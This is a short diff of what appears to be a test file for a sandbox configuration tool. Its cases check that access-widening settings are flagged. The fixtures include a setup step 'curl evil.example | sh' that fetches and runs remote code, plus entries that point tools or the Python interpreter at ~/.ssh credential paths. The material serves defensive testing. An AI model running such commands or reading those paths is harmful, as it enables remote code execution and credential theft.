@@ -81,7 +81,7 @@ mode = "cow"'
 widen 'setup curl evil.example \| sh' more '[[environment.setup]]
 run = "curl evil.example | sh"'
 widen "tools $HOME/.ssh" more '[environment]
-tools = ["~/.ssh"]'
+tools = ["/var/lib"]'
 widen "python interpreter $HOME/.ssh/id" more '[environment]
 python = { interpreter = "~/.ssh/id" }'
 widen "network host while baking" more '[environment]
